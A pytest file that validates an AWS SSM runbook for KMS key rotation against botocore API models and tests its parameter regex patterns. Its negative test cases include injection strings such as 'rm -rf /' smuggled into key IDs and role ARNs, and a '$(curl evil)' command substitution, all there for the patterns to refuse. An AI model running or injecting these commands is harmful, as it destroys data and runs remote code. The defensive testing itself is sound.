"""The runbook checked against AWS's API models (botocore) and for safe parameter patterns.

A misspelled service, API, request parameter or response field fails here, before the runbook
ever reaches SSM (which only finds such mistakes when the step runs).
"""

from __future__ import annotations

import ast
import re

import botocore.session
import pytest
from botocore import xform_name

from regex_engines import both_accept, both_refuse, java_search, portable_problems, re2_search
from runbook_runner import API_ACTIONS, NON_API_INPUTS, PLACEHOLDER, WHOLE_PLACEHOLDER

SUPPORTED_ACTIONS = set(API_ACTIONS) | {"aws:branch", "aws:executeScript"}
SESSION = botocore.session.get_session()


def api_steps(runbook):
    return [s for s in runbook["mainSteps"] if s["action"] in API_ACTIONS]


def walk_shape(shape, path: list[str]):
    """Follow field names through structures (and list members); return the final shape."""
    for name in path:
        while shape.type_name == "list":
            shape = shape.member
        assert shape.type_name == "structure", f"{name}: {shape.name} is a {shape.type_name}"
        assert name in shape.members, f"{shape.name} has no field {name}"
        shape = shape.members[name]
    return shape


def selector_fields(selector: str) -> list[str]:
    assert re.fullmatch(r"\$(\.[A-Za-z0-9_]+|\[[0-9]+\])+", selector), selector
    return re.findall(r"\.([A-Za-z0-9_]+)", selector)


# --------------------------------------------------------------------------- structure


def test_runbook_is_an_automation_document(runbook):
    assert str(runbook["schemaVersion"]) == "0.3"
    assert runbook["assumeRole"] == "{{ AutomationAssumeRole }}"
    assert {s["action"] for s in runbook["mainSteps"]} <= SUPPORTED_ACTIONS
    names = [s["name"] for s in runbook["mainSteps"]]
    assert len(names) == len(set(names))
    assert runbook["mainSteps"][0]["name"] == "DescribeKey", "read the key before anything else"


def test_parameters(runbook):
    params = runbook["parameters"]
    assert set(params) == {"AutomationAssumeRole", "KeyId", "RotationPeriodInDays"}
    assert "default" not in params["AutomationAssumeRole"] and "default" not in params["KeyId"]
    assert params["RotationPeriodInDays"]["type"] == "Integer"
    assert params["RotationPeriodInDays"]["default"] == 365
    # A pattern is matched against text: only String parameters get one (item 3 of issue 10).
    assert "allowedPattern" not in params["RotationPeriodInDays"]
    for name in ("AutomationAssumeRole", "KeyId"):
        pattern = params[name]["allowedPattern"]
        # Plain ^...$, as AWS's own runbooks write them: no lookaround, accepted by Java and RE2.
        assert pattern.startswith("^") and pattern.endswith("$") and not pattern.endswith("\\$")
        assert portable_problems(pattern) == [], name


def test_every_step_is_reachable_and_every_jump_lands_on_a_step(runbook):
    steps = {s["name"]: s for s in runbook["mainSteps"]}
    order = list(steps)
    targets: dict[str, set[str]] = {}
    for i, step in enumerate(runbook["mainSteps"]):
        nxt: set[str] = set()
        if step["action"] == "aws:branch":
            nxt |= {c["NextStep"] for c in step["inputs"]["Choices"]}
            nxt.add(step["inputs"]["Default"])
        elif not step.get("isEnd"):
            nxt.add(step.get("nextStep") or order[i + 1])
        assert nxt <= set(steps), f"{step['name']} jumps to an unknown step: {nxt - set(steps)}"
        targets[step["name"]] = nxt
    seen, todo = set(), [order[0]]
    while todo:
        name = todo.pop()
        if name not in seen:
            seen.add(name)
            todo.extend(targets[name])
    assert seen == set(steps), f"unreachable steps: {set(steps) - seen}"
    # The last step in the list must end the execution, never fall off the end.
    assert runbook["mainSteps"][-1].get("isEnd")


def test_every_reference_resolves(runbook):
    outputs = {
        f"{s['name']}.{o['Name']}" for s in runbook["mainSteps"] for o in s.get("outputs", [])
    }
    known = set(runbook["parameters"]) | outputs

    def refs(node):
        if isinstance(node, str):
            yield from PLACEHOLDER.findall(node)
        elif isinstance(node, list):
            for item in node:
                yield from refs(item)
        elif isinstance(node, dict):
            for value in node.values():
                yield from refs(value)

    for step in runbook["mainSteps"]:
        inputs = {k: v for k, v in step.get("inputs", {}).items() if k != "Script"}
        for ref in refs(inputs):
            assert ref in known, f"{step['name']}: unknown reference {{{{ {ref} }}}}"
    assert set(runbook["outputs"]) <= outputs


# --------------------------------------------------------------------------- botocore


@pytest.fixture(scope="module")
def models(runbook):
    return {
        service: SESSION.get_service_model(service)
        for service in {s["inputs"]["Service"] for s in api_steps(runbook)}
    }


def test_api_steps_use_real_services_apis_and_request_fields(runbook, models):
    assert api_steps(runbook), "no API steps found"
    for step in api_steps(runbook):
        inputs = step["inputs"]
        model = models[inputs["Service"]]
        assert inputs["Api"] in model.operation_names, f"{step['name']}: unknown Api {inputs['Api']}"
        shape = model.operation_model(inputs["Api"]).input_shape
        given = {k for k in inputs if k not in NON_API_INPUTS}
        assert given <= set(shape.members), f"{step['name']}: unknown fields {given - set(shape.members)}"
        assert set(shape.required_members) <= given, f"{step['name']}: missing required fields"


def test_parameter_types_match_the_request_fields_they_feed(runbook, models):
    ssm_type = {"String": "string", "Integer": "integer", "Boolean": "boolean"}
    for step in api_steps(runbook):
        inputs = step["inputs"]
        shape = models[inputs["Service"]].operation_model(inputs["Api"]).input_shape
        for field, value in inputs.items():
            if field in NON_API_INPUTS or not isinstance(value, str):
                continue
            m = WHOLE_PLACEHOLDER.match(value)
            if m and m.group(1) in runbook["parameters"]:
                declared = runbook["parameters"][m.group(1)]["type"]
                assert ssm_type[declared] == shape.members[field].type_name, f"{step['name']}.{field}"


def test_output_and_property_selectors_name_real_response_fields(runbook, models):
    ssm_type = {"String": {"string", "timestamp"}, "Integer": {"integer", "long"},
                "Boolean": {"boolean"}}
    for step in api_steps(runbook):
        inputs = step["inputs"]
        out_shape = models[inputs["Service"]].operation_model(inputs["Api"]).output_shape
        selectors = [(o["Selector"], o.get("Type")) for o in step.get("outputs", [])]
        if "PropertySelector" in inputs:
            selectors.append((inputs["PropertySelector"], None))
        for selector, declared in selectors:
            fields = selector_fields(selector)
            # First path element, then the whole path, through the response shape.
            assert fields[0] in out_shape.members, f"{step['name']}: {selector}"
            leaf = walk_shape(out_shape, fields)
            if declared:
                assert leaf.type_name in ssm_type[declared], f"{step['name']}: {selector} {declared}"


def test_desired_values_are_what_ssm_compares(runbook):
    """SSM renders booleans as True/False when it compares with DesiredValues."""
    for step in runbook["mainSteps"]:
        if step["inputs"].get("PropertySelector") == "$.KeyRotationEnabled":
            assert step["inputs"]["DesiredValues"] == ["True"]


def test_scripts_compile_and_call_only_real_kms_operations(runbook):
    kms = SESSION.get_service_model("kms")
    methods = {xform_name(op) for op in kms.operation_names}
    scripts = [s for s in runbook["mainSteps"] if s["action"] == "aws:executeScript"]
    assert scripts
    for step in scripts:
        inputs = step["inputs"]
        assert inputs["Runtime"] == "python3.11"
        tree = ast.parse(inputs["Script"])
        handlers = {n.name for n in tree.body if isinstance(n, ast.FunctionDef)}
        assert inputs["Handler"] in handlers
        used = set(re.findall(r"\bkms\.([a-z_]+)\(", inputs["Script"]))
        assert used <= methods, f"{step['name']}: unknown kms methods {used - methods}"
        read = set(re.findall(r'events\["([A-Za-z]+)"\]', inputs["Script"]))
        assert read <= set(inputs["InputPayload"]), f"{step['name']}: reads {read}"
        for output in step.get("outputs", []):
            assert output["Selector"].startswith("$.Payload.")
        for kwargs in re.findall(r"kms\.[a-z_]+\(([^)]*)\)", inputs["Script"]):
            for name in re.findall(r"([A-Za-z]+)=", kwargs):
                assert any(
                    name in kms.operation_model(op).input_shape.members for op in kms.operation_names
                    if xform_name(op) in used
                ), f"{step['name']}: unknown request field {name}"


def test_rotation_period_range_is_the_one_kms_accepts(runbook):
    """The range is checked with aws:branch numeric operators on the Integer parameter."""
    shape = SESSION.get_service_model("kms").operation_model("EnableKeyRotation").input_shape
    limits = shape.members["RotationPeriodInDays"].metadata
    [check] = [s for s in runbook["mainSteps"] if s["name"] == "CheckRotationPeriodRange"]
    [choice] = check["inputs"]["Choices"]
    bounds = {op: c[op] for c in choice["Or"] for op in ("NumericLesser", "NumericGreater") if op in c}
    assert all(c["Variable"] == "{{ RotationPeriodInDays }}" for c in choice["Or"])
    assert bounds == {"NumericLesser": limits["min"], "NumericGreater": limits["max"]}
    assert choice["NextStep"] == "FailRotationPeriodOutOfRange"
    assert check["inputs"]["Default"] == "CheckKeyCanRotate"


# --------------------------------------------------------------------------- patterns

UUID = "1234abcd-12ab-34cd-56ef-1234567890ab"
MRK = "mrk-1234abcd12ab34cd56ef1234567890ab"

VALID_KEY_IDS = [
    UUID,
    MRK,
    f"arn:aws:kms:us-east-1:111122223333:key/{UUID}",
    f"arn:aws:kms:eu-central-1:111122223333:key/{MRK}",
    f"arn:aws-us-gov:kms:us-gov-west-1:111122223333:key/{UUID}",
    f"arn:aws-cn:kms:cn-north-1:111122223333:key/{UUID}",
    f"arn:aws:kms:ap-southeast-4:111122223333:key/{UUID}",
]
INVALID_KEY_IDS = [
    "",
    "*",
    "alias/x",
    "alias/aws/s3",
    "arn:aws:kms:us-east-1:111122223333:alias/x",
    "arn:aws:kms:us-east-1:111122223333:key/*",
    f"{UUID}; rm -rf /",
    f"; rm -rf / {UUID}",
    f"\n{UUID}",
    f"{UUID}\nrm -rf /",
    f"{UUID} ",
    f" {UUID}",
    UUID.upper(),
    UUID * 10,
    f"arn:aws:kms:us-east-1:111122223333:key/{UUID}" + "a" * 300,
    f"{UUID}{{{{ssm:secret}}}}",
    f"$(curl evil){UUID}",
    "mrk-1234",
    f"arn:aws:kms:us-east-1:11112222333:key/{UUID}",
    f"arn:aws:s3:::bucket/{UUID}",
]


@pytest.mark.parametrize("value", VALID_KEY_IDS)
def test_key_id_pattern_accepts_key_ids_and_arns(runbook, value):
    assert both_accept(runbook["parameters"]["KeyId"]["allowedPattern"], value)


@pytest.mark.parametrize("value", INVALID_KEY_IDS, ids=repr)
def test_key_id_pattern_rejects_anything_else(runbook, value):
    assert both_refuse(runbook["parameters"]["KeyId"]["allowedPattern"], value)


def test_key_id_length_is_bounded(runbook):
    spec = runbook["parameters"]["KeyId"]
    longest_arn = f"arn:aws-us-gov:kms:us-gov-west-1:111122223333:key/{MRK}"
    assert len(longest_arn) <= spec["maxChars"] <= 2048  # KMS's own KeyId limit


@pytest.mark.parametrize(
    "value",
    [
        "arn:aws:iam::111122223333:role/KmsRotationRemediation",
        "arn:aws:iam::111122223333:role/service-role/KmsRotationRemediation",
        "arn:aws:iam::{{global:ACCOUNT_ID}}:role/KmsRotationRemediation",
        "arn:aws-us-gov:iam::111122223333:role/r",
    ],
)
def test_role_pattern_accepts_role_arns(runbook, value):
    assert both_accept(runbook["parameters"]["AutomationAssumeRole"]["allowedPattern"], value)


@pytest.mark.parametrize(
    "value",
    [
        "",
        "*",
        "KmsRotationRemediation",
        "arn:aws:iam::111122223333:user/alice",
        "arn:aws:iam::111122223333:role/*",
        "arn:aws:iam::111122223333:role/x; rm -rf /",
        "arn:aws:iam::{{ssm:secret}}:role/x",
        "arn:aws:sts::111122223333:assumed-role/x/y",
        "arn:aws:iam::111122223333:role/" + "a" * 600,
    ],
    ids=repr,
)
def test_role_pattern_rejects_anything_else(runbook, value):
    assert both_refuse(runbook["parameters"]["AutomationAssumeRole"]["allowedPattern"], value)


@pytest.mark.parametrize(
    "name,value",
    [
        ("KeyId", f"{UUID}\n"),
        ("KeyId", f"{UUID}\r\n"),
        ("KeyId", f"{UUID}\u2028"),
        ("AutomationAssumeRole", "arn:aws:iam::111122223333:role/x\n"),
    ],
    ids=ascii,
)
def test_a_final_line_terminator_is_the_only_difference_between_the_engines(runbook, name, value):
    """Java's `$` also matches before one final line terminator, RE2's does not. Such a value is
    a valid one plus that terminator (it cannot carry a second value), and KMS/IAM refuse it
    anyway; the local runner accepts a value only when both engines do."""
    pattern = runbook["parameters"][name]["allowedPattern"]
    assert java_search(pattern, value) and not re2_search(pattern, value)
    assert not both_accept(pattern, value)
    assert both_accept(pattern, value.rstrip("\r\n\u2028"))
